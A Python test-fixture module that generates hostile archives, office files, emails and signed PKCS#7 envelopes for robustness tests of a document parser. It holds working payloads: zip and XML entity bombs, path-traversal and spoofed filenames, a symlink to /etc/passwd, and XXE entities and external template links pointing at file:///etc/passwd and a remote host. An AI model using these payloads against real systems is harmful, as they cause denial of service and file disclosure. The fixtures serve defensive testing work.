"""Archives, office documents, messages and signed envelopes made to hurt their reader."""

from __future__ import annotations

import base64
import io
import stat
import struct
import zipfile
from collections.abc import Iterable
from email.message import EmailMessage
from functools import cache

from tests.hostile.build import (
    ODT,
    SHEET,
    WORD,
    WORD_SPACE,
    archive,
    bomb,
    der,
    docx,
    envelope,
    odt,
    overlapping,
    plain_pdf,
    xlsx,
)

_MB = b" " * (1 << 20)

# -- archives ----------------------------------------------------------------------------


@cache
def zip_bomb_flat() -> bytes:
    return bomb("zeri.txt", _MB, 1024)


def zip_bomb_nested() -> bytes:
    data = bomb("zeri.txt", _MB, 64)
    for level in range(6):
        data = archive({f"livello{level}-{number}.zip": data for number in range(8)})
    return data


def zip_bomb_overlapping() -> bytes:
    return overlapping(1000, 64)


def zip_in_zip_a_hundred_deep() -> bytes:
    data = b"in fondo c'e' del testo"
    for level in range(100):
        data = archive({f"livello{level}.zip": data}, zipfile.ZIP_STORED)
    return data


def zip_of_a_million_entries() -> bytes:
    entry = struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 0, 0, 0x21, 0, 0, 0, 7, 0, 0, 0, 0, 0, 0)
    head = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 0, 0, 0x21, 0, 0, 0, 7, 0) + b"0000000"
    directory = b"".join(entry + b"%07d" % number for number in range(1_000_000))
    count = 0xFFFF
    wide = struct.pack(
        "<IQHHIIQQQQ", 0x06064B50, 44, 45, 45, 0, 0, 1_000_000, 1_000_000, len(directory), len(head)
    )
    where = struct.pack("<IIQI", 0x07064B50, 0, len(head) + len(directory), 1)
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, 0xFFFFFFFF, 0xFFFFFFFF, 0)
    return head + directory + wide + where + end


def zip_with_bad_names() -> bytes:
    """Names that lead out of the folder, that name devices, that say another thing than they show."""
    text = b"Testo di un allegato con un nome cattivo."
    names = (
        *("../../../../tmp/evaso.txt", "/etc/cron.d/prassi", "C:\\Windows\\system32\\a.txt", "..\\..\\a.txt"),
        *(
            "a/../../../b.txt",
            "CON",
            "aux.txt",
            "/dev/null",
            "a\nb.txt",
            "\x1b[2J.txt",
            "fattura\u202efdp.exe",
        ),
        *(
            "doppio.txt",
            "a" * 300 + ".txt",
            "cartella/",
            "",
            ".",
            "..",
            "\u0000nullo.txt",
            "-rf",
            "perche\u0301.txt",
        ),
    )
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as out:
        for name in (*names, "doppio2.txt"):
            info = zipfile.ZipInfo("x")
            info.filename = name
            out.writestr(info, text)
        link = zipfile.ZipInfo("passwd")
        link.external_attr = (stat.S_IFLNK | 0o777) << 16
        link.create_system = 3
        out.writestr(link, "/etc/passwd")
    return buffer.getvalue().replace(b"doppio2.txt", b"doppio.txt\x00")


def zip_encrypted() -> bytes:
    data = bytearray(archive({"segreto.txt": b"testo segreto, che non si legge"}, zipfile.ZIP_STORED))
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        data[data.index(mark) + offset] |= 1
    return bytes(data)


def zip_that_lies_about_sizes() -> bytes:
    data = bytearray(archive({"atto.txt": b"testo " * 1000}))
    for mark, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        place = data.index(mark) + offset
        data[place : place + 4] = b"\x05\0\0\0"
    return bytes(data)


def zip_with_a_strange_method() -> bytes:
    data = bytearray(archive({"atto.txt": b"testo"}))
    data[data.index(b"PK\x03\x04") + 8] = 99
    data[data.index(b"PK\x01\x02") + 10] = 99
    return bytes(data)


def docx_in_zip_in_mail_in_zip() -> bytes:
    inner = archive({"atto.docx": docx("<w:p><w:r><w:t>Atto in fondo.</w:t></w:r></w:p>")})
    return archive({"posta.eml": _mail([("allegato.zip", inner)]).as_bytes()})


# -- office documents --------------------------------------------------------------------


@cache
def docx_bomb() -> bytes:
    return bomb("word/document.xml", b"<w:p><w:r><w:t>a</w:t></w:r></w:p>" * 30_000, 1024, WORD)


def docx_bomb_in_another_part() -> bytes:
    text = f"<w:document {WORD_SPACE}><w:body><w:p><w:r><w:t>Testo.</w:t></w:r></w:p></w:body></w:document>"
    return bomb("word/media/image1.png", _MB, 1024, {**WORD, "word/document.xml": text.encode()})


def docx_just_under_the_limit() -> bytes:
    body = b"<w:p><w:r><w:t>a</w:t></w:r></w:p>" * 30_000
    head = f"<w:document {WORD_SPACE}><w:body>".encode()
    return bomb("word/document.xml", head + body, 115, WORD)


def xlsx_bomb() -> bytes:
    return bomb("xl/worksheets/sheet1.xml", b"<row><c><v>1</v></c></row>" * 40_000, 1024, SHEET)


def odt_bomb() -> bytes:
    return bomb("content.xml", b"<text:p>a</text:p>" * 50_000, 1024, ODT)


def odt_of_repeated_cells() -> bytes:
    space = 'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"'
    cell = '<table:table-cell table:number-columns-repeated="1000000"><text:p>a</text:p></table:table-cell>'
    row = f'<table:table-row table:number-rows-repeated="1000000">{cell}</table:table-row>'
    return odt(f"<table:table {space}>{row}</table:table>")


def docx_encrypted() -> bytes:
    magic = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1000)
    return magic + "EncryptedPackage".encode("utf-16-le") + bytes(4000)


_LAUGHS = "<!DOCTYPE x [<!ENTITY a0 'ah'>" + "".join(
    f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 11)
)
LAUGHS = f"{_LAUGHS}]>"
QUADRATIC = f"<!DOCTYPE x [<!ENTITY q '{'a' * 50_000}'>]>"
PASSWD = '<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd"><!ENTITY n SYSTEM "http://192.0.2.1/">]>'
PARAMETER = '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://192.0.2.1/e.dtd"> %p;]>'


def _word_text(text: str) -> str:
    return f"<w:p><w:r><w:t>Prima.</w:t></w:r></w:p><w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def docx_billion_laughs() -> bytes:
    return docx(_word_text("&a10;"), LAUGHS)


def docx_quadratic_entities() -> bytes:
    return docx(_word_text("&q;" * 50_000), QUADRATIC)


def docx_external_entities() -> bytes:
    return docx(_word_text("&f;&n;"), PASSWD)


def docx_external_parameter() -> bytes:
    return docx(_word_text("a"), PARAMETER)


def odt_billion_laughs() -> bytes:
    return odt("<text:p>Prima.</text:p><text:p>&a10;</text:p>", LAUGHS)


def odt_quadratic_entities() -> bytes:
    return odt(f"<text:p>{'&q;' * 50_000}</text:p>", QUADRATIC)


def odt_external_entities() -> bytes:
    return odt("<text:p>Prima.</text:p><text:p>&f;&n;</text:p>", PASSWD)


def xlsx_billion_laughs() -> bytes:
    return xlsx("&a10;", LAUGHS)


def xlsx_external_entities() -> bytes:
    return xlsx("&f;&n;", PASSWD)


def docx_nested_tables() -> bytes:
    cell = "<w:tbl><w:tr><w:tc><w:p/>"
    return docx(cell * 5000 + "</w:tc></w:tr></w:tbl>" * 5000)


def docx_nested_a_million_deep() -> bytes:
    return docx("<w:p>" + "<w:ins>" * 1_000_000)


def odt_nested_a_hundred_thousand_deep() -> bytes:
    return odt("<text:p>" + "<text:span>" * 100_000 + "a" + "</text:span>" * 100_000 + "</text:p>")


def docx_linked_templates() -> bytes:
    """Relations that lead out: a template and a picture on a server and on this disk."""
    text = f"<w:document {WORD_SPACE}><w:body><w:p><w:r><w:t>Atto.</w:t></w:r></w:p></w:body></w:document>"
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    links = "".join(
        f'<Relationship Id="r{n}" Type="{kind}/{what}" Target="{where}" TargetMode="External"/>'
        for n, (what, where) in enumerate(
            (("attachedTemplate", "http://192.0.2.1/a.dotm"), ("image", "file:///etc/passwd"))
        )
    )
    space = "http://schemas.openxmlformats.org/package/2006/relationships"
    relations = f'<Relationships xmlns="{space}">{links}</Relationships>'
    return archive(
        {**WORD, "word/document.xml": text.encode(), "word/_rels/document.xml.rels": relations.encode()}
    )


# -- messages ----------------------------------------------------------------------------


def _mail(attachments: Iterable[tuple[str, bytes]]) -> EmailMessage:
    message = EmailMessage()
    message["Subject"], message["From"] = "Invio", "ufficio@esempio.invalid"
    message["To"], message["Message-ID"] = "protocollo@esempio.invalid", "<1@esempio.invalid>"
    message.set_content("Si trasmette quanto in oggetto.\n")
    for name, data in attachments:
        message.add_attachment(data, maintype="application", subtype="octet-stream", filename=name)
    return message


def mail_with_bad_names() -> bytes:
    text = b"Testo di un allegato dal nome cattivo.\n"
    names = ("../../../../tmp/evaso.txt", "/etc/passwd", "..\\..\\a.txt", "fattura\u202efdp.exe", "a" * 1000)
    return _mail([(name, text) for name in names]).as_bytes()


def mail_with_a_ten_megabyte_header() -> bytes:
    lines = b"".join(b" parola%d <a%d@esempio.invalid>,\r\n" % (n, n) for n in range(270_000))
    return b"From: a@esempio.invalid\r\nMIME-Version: 1.0\r\nTo: a@b.invalid,\r\n" + lines + b"\r\nTesto.\r\n"


def mail_with_one_endless_word() -> bytes:
    return (
        b"From: a@b.invalid\r\nMIME-Version: 1.0\r\nSubject: " + b"=?utf-8?q?" * 100_000 + b"\r\n\r\nTesto."
    )


def mail_with_a_million_headers() -> bytes:
    return b"From: a@b.invalid\r\nMIME-Version: 1.0\r\n" + b"X-A: b\r\n" * 1_000_000 + b"\r\nTesto.\r\n"


def _multipart(boundary: str) -> bytes:
    head = "From: a@b.invalid\r\nMIME-Version: 1.0\r\n"
    return f'{head}Content-Type: multipart/mixed; boundary="{boundary}"\r\n\r\n'.encode()


def mail_that_never_closes() -> bytes:
    part = b"--confine\r\nContent-Type: text/plain\r\n\r\nTesto della parte.\r\n"
    return _multipart("confine") + part * 5_000


def mail_of_nested_multiparts() -> bytes:
    parts = (b'Content-Type: multipart/mixed; boundary="b%d"\r\n\r\n--b%d\r\n' % (n, n) for n in range(5000))
    return b"From: a@b.invalid\r\nMIME-Version: 1.0\r\n" + b"".join(parts) + b"\r\nIn fondo.\r\n"


def mail_in_mail_a_hundred_deep() -> bytes:
    message = _mail([])
    for _ in range(100):
        outer = _mail([])
        outer.add_attachment(message)
        message = outer
    return message.as_bytes()


def mail_with_ten_thousand_attachments() -> bytes:
    part = b'--c\r\nContent-Disposition: attachment; filename="a%d.txt"\r\n\r\nTesto numero %d.\r\n'
    return _multipart("c") + b"".join(part % (n, n) for n in range(10_000)) + b"--c--\r\n"


def mail_with_a_bomb() -> bytes:
    return _mail([("bomba.zip", zip_bomb_flat()), ("bomba.docx", docx_bomb())]).as_bytes()


# -- signed envelopes --------------------------------------------------------------------


def p7m_fifty_deep() -> bytes:
    data = plain_pdf()
    for _ in range(50):
        data = envelope(data)
    return data


def p7m_fifty_deep_in_base64() -> bytes:
    data = plain_pdf()
    for _ in range(12):
        data = base64.b64encode(envelope(data))
    return data


def p7m_with_an_absurd_length() -> bytes:
    data = bytearray(envelope(plain_pdf()))
    data[1:2] = b"\xfe" + b"\xff" * 126
    return bytes(data)


def p7m_longer_than_it_says() -> bytes:
    return b"\x30\x84\x7f\xff\xff\xff" + envelope(plain_pdf())[4:]


def p7m_of_endless_parts() -> bytes:
    head = bytes.fromhex("308006092a864886f70d010702a0803080020101310030800609 2a864886f70d010701a080")
    return head + b"\x24\x80" * 100_000


def p7m_of_tiny_parts() -> bytes:
    text = b"Testo firmato a pezzetti. " * 400
    parts = b"".join(der(0x04, bytes((byte,))) for byte in text)
    inner = der(0x30, bytes.fromhex("06092a864886f70d010701") + der(0xA0, der(0x24, parts)))
    signed = der(0x30, der(0x02, b"\x01") + der(0x31, b"") + inner + der(0x31, b""))
    return der(0x30, bytes.fromhex("06092a864886f70d010702") + der(0xA0, signed))


def p7m_around_a_bomb() -> bytes:
    return envelope(zip_bomb_flat())
